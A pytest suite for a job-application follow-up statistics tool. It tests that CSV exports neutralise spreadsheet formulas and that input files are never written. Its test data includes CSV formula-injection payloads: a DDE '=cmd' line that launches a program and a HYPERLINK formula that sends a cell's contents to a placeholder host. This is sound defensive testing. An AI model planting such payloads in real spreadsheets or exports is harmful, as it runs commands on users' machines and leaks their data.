"""Nothing from a log runs anywhere, and no input file is ever written.

- Every CSV the tool exports neutralises spreadsheet formulas; the writers that
  do not are canonical logs that this package reads back, and say so.
- Every command leaves its input files byte for byte as they were, and never
  even opens one for writing (``open``, ``os.open``, ``os.replace`` and friends
  are watched during the run).
"""

from __future__ import annotations

import builtins
import contextlib
import csv
import hashlib
import importlib.util
import io
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from followup_stats import cli
from followup_stats.output import FORMULA_PREFIXES

AS_OF = "2026-11-20"
PACKAGE = Path(cli.__file__).parent
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
]
#: A log whose every free-text cell is a formula, with a file name that is one too.
HOSTILE_LOG = "=cmd.csv"
CONFIG = "followup-stats.toml"


def hostile_log() -> str:
    rows = [["date", "candidate", "company", "role", "event", "contact", "notes", "source"]]
    for i, text in enumerate(HOSTILE):
        company, who = text, HOSTILE[(i + 1) % len(HOSTILE)]
        rows += [
            ["2026-10-01", who, company, text, "applied", text, text, text],
            ["2026-10-03", who, company, text, "follow_up", text, text, text],  # FU005
            ["2026-10-08", who, company, text, "interview", text, text, text],
            ["2026-10-30", who, company, text, "follow_up", text, text, text],
        ]
    rows.append([text for text in HOSTILE[:8]] + ["x"])  # a row of formulas: rejected
    buffer = io.StringIO()
    # CRLF line ends, so that the csv module quotes the cell holding a CR.
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


@pytest.fixture
def inputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder holding a hostile log, a second log and a configuration file; the cwd."""
    folder = tmp_path / "inputs"
    folder.mkdir()
    (folder / HOSTILE_LOG).write_text(hostile_log(), encoding="utf-8")
    (folder / "second.csv").write_bytes(
        b"date,company,event\r\n2026-10-02,Initech,applied\r\n2026-10-04,Initech,dance\r\n"
    )
    (folder / CONFIG).write_text("[tool.followup_stats]\ndefault_wait_days = 5\n")
    monkeypatch.chdir(folder)
    return folder


def run(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(argv)
    return code, out.getvalue(), err.getvalue()


# -- exported CSV is formula-safe ----------------------------------------------------------------


def unsafe_cells(text: str) -> list[str]:
    """Cells of CSV ``text`` that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_PREFIXES)
    ]


@pytest.mark.parametrize(
    "argv",
    [
        ["check", HOSTILE_LOG, "second.csv", "--format", "csv"],
        ["stats", HOSTILE_LOG, "--format", "csv"],
        ["stats", HOSTILE_LOG, "--format", "csv", "--by", "source"],
    ],
    ids=["check", "stats", "stats-by-source"],
)
def test_exported_csv_neutralises_formulas(inputs: Path, tmp_path: Path, argv: list[str]) -> None:
    target = tmp_path / "export.csv"
    code, screen, err = run([*argv, "--as-of", AS_OF])
    assert code in (cli.EXIT_OK, cli.EXIT_ERRORS_FOUND), err
    assert run([*argv, "--as-of", AS_OF, "--output", str(target)])[0] == code
    written = target.read_text(encoding="utf-8")
    assert written == screen
    assert len(written.splitlines()) > 1
    assert unsafe_cells(written) == []


def test_check_csv_keeps_the_hostile_text_behind_the_quote(inputs: Path) -> None:
    """Neutralised, not dropped: each formula is there, after a leading '."""
    _, text, _ = run(["check", HOSTILE_LOG, "--format", "csv", "--as-of", AS_OF])
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    assert "'" + HOSTILE_LOG in cells  # the file column
    for formula in HOSTILE:  # as loaded: cells are stripped, so "\t=cmd" is "=cmd" by now
        assert "'" + formula.strip() in cells, formula


def test_a_carriage_return_inside_a_cell_cannot_start_a_formula_row(
    inputs: Path, tmp_path: Path
) -> None:
    log = tmp_path / "cr.csv"
    log.write_bytes(
        b'date,company,event\n2026-10-01,"Hooli\r=1+1",applied\n'
        b'2026-10-03,"Hooli\r=1+1",follow_up\n'
    )
    _, text, _ = run(["check", str(log), "--format", "csv", "--as-of", AS_OF])
    assert unsafe_cells(text) == []  # csv.reader, like a spreadsheet, ends a row at a bare CR


#: Modules that write CSV without neutralising, and why that is right for them.
CANONICAL_LOG_WRITERS = {
    "simulate.py": "the simulator's canonical log, read back by the loader",
    "importers/combine.py": "the importer's canonical log, read back by the loader",
    "logio.py": "write_log: canonical logs (formula_safe=True when asked)",
    "anonymize.py": "the pseudonymised copy of a log that the report notebook loads",
}
CSV_WRITER = re.compile(r"\.to_csv\(|\bcsv\.writer\(|DictWriter\(|pa_csv\.write_csv\(")


def test_every_csv_writer_is_formula_safe_or_a_canonical_log() -> None:
    writers = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if CSV_WRITER.search(path.read_text(encoding="utf-8"))
    }
    assert writers - {"output.py"} <= set(CANONICAL_LOG_WRITERS), (
        "a new CSV writer: use followup_stats.output.write_safe_csv / to_safe_csv, or, for a "
        "canonical log read back by the package, list it here and say so where it writes"
    )
    # The simulator and the importer say where they write why they are exempt.
    for module in ("simulate.py", "importers/combine.py", "logio.py"):
        assert "formula" in (PACKAGE / module).read_text(encoding="utf-8"), module


# -- input files are never written -------------------------------------------------------------


def digests(folder: Path) -> dict[str, str]:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir() if p.is_file()
    }


_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_APPEND | os.O_CREAT | os.O_TRUNC


@contextlib.contextmanager
def watch_inputs(
    monkeypatch: pytest.MonkeyPatch, inputs: list[Path]
) -> Iterator[dict[str, list[str]]]:
    """Record every open of an input, and refuse (and record) any that could change it."""
    watched = {os.path.realpath(p) for p in inputs}
    seen: dict[str, list[str]] = {"read": [], "write": []}
    real_open, real_os_open = builtins.open, os.open

    def is_input(path: Any) -> bool:
        try:
            return os.path.realpath(os.fspath(path)) in watched
        except TypeError:
            return False  # a file descriptor

    def guarded_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        if is_input(file):
            writes = any(flag in mode for flag in "wax+")
            seen["write" if writes else "read"].append(f"open({file!s}, {mode!r})")
            if writes:
                raise PermissionError(f"test: {file} is an input; opened with {mode!r}")
        return real_open(file, mode, *args, **kwargs)

    def guarded_os_open(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if is_input(path):
            writes = bool(flags & _WRITE_FLAGS)
            seen["write" if writes else "read"].append(f"os.open({path!s}, {flags:#o})")
            if writes:
                raise PermissionError(f"test: {path} is an input; os.open with {flags:#o}")
        return real_os_open(path, flags, *args, **kwargs)

    def refuse(name: str, real: Callable[..., Any], *positions: int) -> Callable[..., Any]:
        def guarded(*args: Any, **kwargs: Any) -> Any:
            for position in positions:
                if len(args) > position and is_input(args[position]):
                    seen["write"].append(f"os.{name}{args!r}")
                    raise PermissionError(f"test: os.{name} on an input")
            return real(*args, **kwargs)

        return guarded

    monkeypatch.setattr(builtins, "open", guarded_open)
    monkeypatch.setattr(io, "open", guarded_open)
    monkeypatch.setattr(os, "open", guarded_os_open)
    for name, positions in (
        ("replace", (1,)),
        ("rename", (0, 1)),
        ("remove", (0,)),
        ("unlink", (0,)),
        ("truncate", (0,)),
        ("chmod", (0,)),
    ):
        monkeypatch.setattr(os, name, refuse(name, getattr(os, name), *positions))
    yield seen


REPORTS = importlib.util.find_spec("followup_stats.report") is not None
COMMANDS: list[tuple[str, list[str], bool]] = [
    ("check", ["check", HOSTILE_LOG, "second.csv", "--as-of", AS_OF, "--config", CONFIG], True),
    ("check-json", ["check", HOSTILE_LOG, "--format", "json", "--output", "{out}/c.json"], True),
    ("check-csv", ["check", HOSTILE_LOG, "--format", "csv", "--output", "{out}/c.csv"], True),
    (
        "stats",
        ["stats", HOSTILE_LOG, "second.csv", "--format", "csv", "--output", "{out}/s.csv"],
        True,
    ),
    ("todo-ics", ["todo", HOSTILE_LOG, "--as-of", AS_OF, "--ics", "{out}/r.ics"], True),
    ("rule", ["rule", "FU005", "--config", CONFIG], False),
    (
        "simulate",
        ["simulate", "--candidates", "1", "--applications", "3", "--out", "{out}/sim.csv"],
        False,
    ),
    ("import", ["import", HOSTILE_LOG, "second.csv", "--out", "{out}/imported.csv"], True),
]
if REPORTS:
    COMMANDS.append(
        (
            "report",
            [
                "report",
                HOSTILE_LOG,
                "--candidate",
                "=1+1",
                "--out",
                "{out}/reports",
                "--as-of",
                AS_OF,
            ],
            True,
        )
    )


@pytest.mark.parametrize(
    ("argv", "reads_log"), [c[1:] for c in COMMANDS], ids=[c[0] for c in COMMANDS]
)
def test_inputs_are_never_opened_for_writing(
    inputs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    argv: list[str],
    reads_log: bool,
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    argv = [a.replace("{out}", str(out)) for a in argv]
    before = digests(inputs)
    with watch_inputs(monkeypatch, list(inputs.iterdir())) as seen:
        code, _, err = run(argv)
    assert seen["write"] == []
    assert code in (cli.EXIT_OK, cli.EXIT_ERRORS_FOUND), err
    assert digests(inputs) == before  # byte for byte, the subprocesses' reads included
    if reads_log:  # the watch saw the reads, so it would have seen a write
        assert any(HOSTILE_LOG in r for r in seen["read"]), seen["read"]
    assert list(out.iterdir()) or argv[0] in ("check", "rule")


@pytest.mark.parametrize(
    "argv",
    [
        ["check", HOSTILE_LOG, "--output", HOSTILE_LOG],
        ["check", HOSTILE_LOG, "--output", "./" + HOSTILE_LOG],
        ["check", HOSTILE_LOG, "--output", "link.csv"],
        ["check", HOSTILE_LOG, "--config", CONFIG, "--output", CONFIG],
        ["stats", HOSTILE_LOG, "second.csv", "--format", "csv", "--output", "second.csv"],
        ["todo", HOSTILE_LOG, "--ics", HOSTILE_LOG],
        ["import", HOSTILE_LOG, "--out", HOSTILE_LOG],
    ],
    ids=["check", "check-dot", "check-symlink", "check-config", "stats", "todo-ics", "import"],
)
def test_output_over_an_input_is_refused(
    inputs: Path, monkeypatch: pytest.MonkeyPatch, argv: list[str]
) -> None:
    (inputs / "link.csv").symlink_to(inputs / HOSTILE_LOG)
    before = digests(inputs)
    with watch_inputs(monkeypatch, list(inputs.iterdir())) as seen:
        code, _, err = run([*argv, "--as-of", AS_OF] if argv[0] != "import" else argv)
    assert code == cli.EXIT_USAGE
    assert len(err.splitlines()) == 1 and "refusing to write over it" in err
    assert seen["write"] == []
    assert digests(inputs) == before


def test_the_watch_sees_writes(inputs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The guard itself: every way of writing a file is caught before it happens."""
    log = inputs / HOSTILE_LOG
    before = digests(inputs)
    with watch_inputs(monkeypatch, [log]) as seen:
        for attempt in (
            lambda: log.write_text("x"),
            lambda: open(log, "r+"),  # noqa: SIM115
            lambda: os.open(log, os.O_WRONLY),
            lambda: os.replace(inputs / "second.csv", log),
            lambda: os.unlink(log),
        ):
            with pytest.raises(PermissionError):
                attempt()
        log.read_bytes()
    assert len(seen["write"]) == 5 and seen["read"]
    assert digests(inputs) == before


# -- outputs that are not files -------------------------------------------------------------


SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample_log.csv"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes need mkfifo")
@pytest.mark.parametrize(
    "argv",
    [
        ["check", str(SAMPLE), "--as-of", AS_OF, "--output"],
        ["import", str(SAMPLE), "--out"],
    ],
    ids=["check", "import"],
)
def test_a_named_pipe_as_output_is_written_into_not_replaced(
    tmp_path: Path, argv: list[str]
) -> None:
    import threading

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()), daemon=True)
    reader.start()
    code, _, err = run([*argv, str(pipe)])
    reader.join(timeout=30)
    assert code in (cli.EXIT_OK, cli.EXIT_ERRORS_FOUND), err
    assert pipe.is_fifo()  # still a pipe, not a file put in its place
    assert received and received[0]  # what was written went through it
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_a_socket_as_output_is_refused(tmp_path: Path) -> None:
    import socket

    path = tmp_path / "s"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        try:
            server.bind(str(path))
        except OSError:
            pytest.skip("no Unix sockets here")
        code, _, err = run(["check", str(SAMPLE), "--as-of", AS_OF, "--output", str(path)])
    assert code == cli.EXIT_USAGE
    assert err.strip().endswith(f"--output {path}: is a socket, not a file")


def test_the_column_search_for_control_characters_finds_what_the_python_pattern_does() -> None:
    """Arrow (RE2) searches a whole column; it must escape exactly the characters Python would."""
    import pyarrow as pa
    import pyarrow.compute as pc

    from followup_stats import output

    characters = [chr(c) for c in range(0x3000) if not 0xD800 <= c < 0xE000]
    characters += ["\U0001f600", "\ufeff", "\u2028"]
    by_python = [bool(output.CONTROL_CHARACTERS.search(c)) for c in characters]
    by_arrow = pc.match_substring_regex(pa.array(characters), output._CONTROL_RE2).to_pylist()
    assert by_arrow == by_python
    assert sum(by_python) == 32 + 33 + 1 + 2 + 5 + 4
